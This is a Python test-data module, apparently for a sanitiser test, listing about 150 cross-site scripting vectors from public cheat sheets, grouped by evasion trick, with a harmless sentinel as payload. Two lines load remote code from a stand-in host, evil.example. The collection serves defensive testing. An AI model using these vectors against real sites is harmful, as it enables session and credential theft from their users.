"""The XSS battery: markup that tries to run `window.__pwned=1` (or open a dialog) once rendered.

Collected from the usual public cheat sheets (OWASP's XSS filter evasion list, PortSwigger's
cross-site scripting cheat sheet, the DOMPurify and html5sec.org mutation-XSS cases) and grouped
by trick. `JS` is the payload; a vector that fires sets the sentinel the browser test reads.
"""

from __future__ import annotations

JS = "window.__pwned=1"

SCRIPT_TAGS = [
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT>",
    "<script type=module>{js}</script>",
    "<script src=data:,{js}></script>",
    "<script/src=data:,{js}></script>",
    "<script\x0c>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<<script>script>{js}<</script>/script>",
    "<script>/*</script><script>*/{js}</script>",
    "<script src=//evil.example/x.js></script>",
    '<script type="text/javascript">{js}</script>',
    "<script>{js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><script href=data:,{js} />",
    "<math><script>{js}</script></math>",
]
EVENT_HANDLERS = [
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<IMG SRC=x ONERROR={js}>",
    "<img src=x onerror\x0b={js}>",
    "<img/src/onerror={js}>",
    "<img src=`x`onerror={js}>",
    "<img src=x:x onerror={js}//",
    '<img src=x onerror="&#119;indow.__pwned=1">',
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<body onload={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<keygen autofocus onfocus={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<div onmouseover={js}>hover me</div>",
    "<p onclick={js}>click me</p>",
    "<a onmouseover={js}>link</a>",
    "<a href=https://example.com onfocus={js} autofocus>x</a>",
    "<x onclick={js} style=display:block>x</x>",
    "<div style=animation-name:spin onanimationstart={js}></div>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x to=1>",
    "<svg><discard onbegin={js}>",
    "<frameset onload={js}>",
    "<object onerror={js}>",
    "<iframe onload={js}></iframe>",
    "<form><button formaction=javascript:{js}>x</button></form>",
    "<input type=image src=x onerror={js}>",
    "<table background=x onerror={js}>",
    "<time datetime=x onclick={js}>then</time>",
    "<abbr title=x onmouseover={js}>a</abbr>",
    "<ol start=1 onclick={js}><li>x</li></ol>",
]
URL_SCHEMES = [
    "<a href=javascript:{js}>click</a>",
    '<a href="JaVaScRiPt:{js}">click</a>',
    '<a href=" javascript:{js}">click</a>',
    '<a href="&#106;avascript:{js}">click</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{js}">click</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{js}">click</a>',
    '<a href="jav&#x09;ascript:{js}">click</a>',
    '<a href="jav&#x0A;ascript:{js}">click</a>',
    '<a href="jav&Tab;ascript:{js}">click</a>',
    '<a href="java&NewLine;script:{js}">click</a>',
    '<a href="javascript&colon;{js}">click</a>',
    '<a href="java\x00script:{js}">click</a>',
    '<a href="\x01javascript:{js}">click</a>',
    '<a href="&#14;  javascript:{js}">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html,<script>{js}</script>">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+">click</a>',
    "<iframe src=javascript:{js}></iframe>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "<iframe src=data:text/html,<script>parent.__pwned=1</script>></iframe>",
    "<object data=javascript:{js}></object>",
    "<embed src=javascript:{js}>",
    "<img src=javascript:{js}>",
    '<img src=x srcset="javascript:{js} 1x">',
    '<img src=x srcset="https://example.com/a.jpg 1x, javascript:{js} 2x">',
    '<img src=x srcset="a.jpg 1x ,javascript:{js} 2x">',
    '<img src=x srcset=",javascript:{js}">',
    '<img src=x srcset="a.jpg 9h,data:text/html,<script>{js}</script>">',
    '<img src=x srcset="javascript:{js} 1x, http://[::1 2x">',
    '<q cite="javascript:{js} http://[::1">quoted</q>',
    "<blockquote cite=javascript:{js}>quoted</blockquote>",
    "<q cite=javascript:{js}>quoted</q>",
    "<form action=javascript:{js}><input type=submit></form>",
    "<isindex action=javascript:{js} type=image>",
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<base href="javascript:{js}//"><a href="/x">relative</a>',
    "<link rel=import href=data:text/html,<script>{js}</script>>",
    "<area href=javascript:{js}>",
    "<math><maction actiontype=statusline xlink:href=javascript:{js}>click</maction></math>",
    "<math href=javascript:{js}>click</math>",
    "<svg><a xlink:href=javascript:{js}><text y=20>click</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:{js} /><text y=20>click</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={js}>#x"></use></svg>',
    "<img src=\"data:image/svg+xml,<svg onload='{js}'>\">",
]
CSS = [
    "<style>@import 'javascript:{js}';</style>",
    "<style>*{{background:url(javascript:{js})}}</style>",
    '<div style="background:url(javascript:{js})">styled</div>',
    '<div style="width:expression({js})">styled</div>',
    '<div style="-moz-binding:url(https://evil.example/xss.xml#x)">styled</div>',
    '<xss style="behavior:url(xss.htc);">styled</xss>',
    "<style>@keyframes x{{}}</style><div style=animation-name:x onanimationstart={js}></div>",
    '<link rel=stylesheet href="javascript:{js}">',
]
MUTATION_XSS = [
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<!--<img src="--><img src=x onerror={js}//">',
    "<title><img src=x onerror={js}></title>",
    "<textarea><img src=x onerror={js}></textarea>",
    "<xmp><img src=x onerror={js}></xmp>",
    "<noembed><img src=x onerror={js}></noembed>",
    "<noframes><img src=x onerror={js}></noframes>",
    "<iframe><img src=x onerror={js}></iframe>",
    "<plaintext><img src=x onerror={js}>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<math><style><img src=x onerror={js}></style></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror={js}>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    "<svg><p><style><img src=x onerror={js}></style></p></svg>",
    "<table><style><img src=x onerror={js}></style></table>",
    "<select><template><img src=x onerror={js}></template></select>",
    "<template><img src=x onerror={js}></template>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={js}></annotation-xml></math>",
    "<a href=\"x\">x<a/ href=\"</a><img src=x onerror={js}>\">",
    "<img \"\"\"><script>{js}</script>\">",
    "<![CDATA[<script>{js}</script>]]>",
    "<!--[if gte IE 4]><script>{js}</script><![endif]-->",
    "<?xml-stylesheet type=\"text/xsl\" href=\"data:,{js}\"?>",
    "<style><!--</style><img src=x onerror={js}>--></style>",
    "<a title=\"&quot;><img src=x onerror={js}>\">quoted</a>",
    "</p></article></body></html><script>{js}</script>",
    "<div id=\"x\"></div><img src=x id=\"x\" name=\"__pwned\">",
]
ENCODED_TEXT = [
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&lt;img src=x onerror={js}&gt;",
    "&#60;svg onload={js}&#62;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C/script%3E",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
]
# Right-to-left override characters: "gnp.exe" reads as "exe.png"; titles must not carry them.
RTL_TRICKS = [
    "Invoice \u202egnp.exe",
    "\u202eevil\u202c \u2066isolated\u2069 \u2067rtl\u2069 \u2068first\u2069 \u202aembed\u202c \u202bembed\u202c",
    "<img src=x onerror={js}>\u202e",
]

VECTORS = [vector.replace("{js}", JS).replace("{{", "{").replace("}}", "}")
           for group in (SCRIPT_TAGS, EVENT_HANDLERS, URL_SCHEMES, CSS, MUTATION_XSS, ENCODED_TEXT, RTL_TRICKS)
           for vector in group]
# Vectors in a page address (it must still be an absolute http(s) URL without spaces).
URL_VECTORS = [
    "https://example.com/\"><img/src=x/onerror=window.__pwned=1>",
    "https://example.com/'onmouseover='window.__pwned=1",
    "https://example.com/x#<script>window.__pwned=1</script>",
    "https://example.com/x?q=</title><script>window.__pwned=1</script>",
    "https://example.com/javascript:window.__pwned=1",
]
# Page addresses no browser would produce: refused with a 400 before anything is stored.
REFUSED_URL_VECTORS = ["https://\"><svg/onload=window.__pwned=1>.example/", "https://<script>.example/",
                       "https://a|b^c.example/", "https://[javascript:x]/"]
# Vectors in URLs the page declares about itself (canonical, og:image, og:url, JSON-LD image).
DECLARED_URL_VECTORS = ["javascript:window.__pwned=1", " javascript:window.__pwned=1", "data:text/html,<script>x</script>",
                        "vbscript:x", "java\tscript:window.__pwned=1", "https://example.com/\"><script>x</script>"]
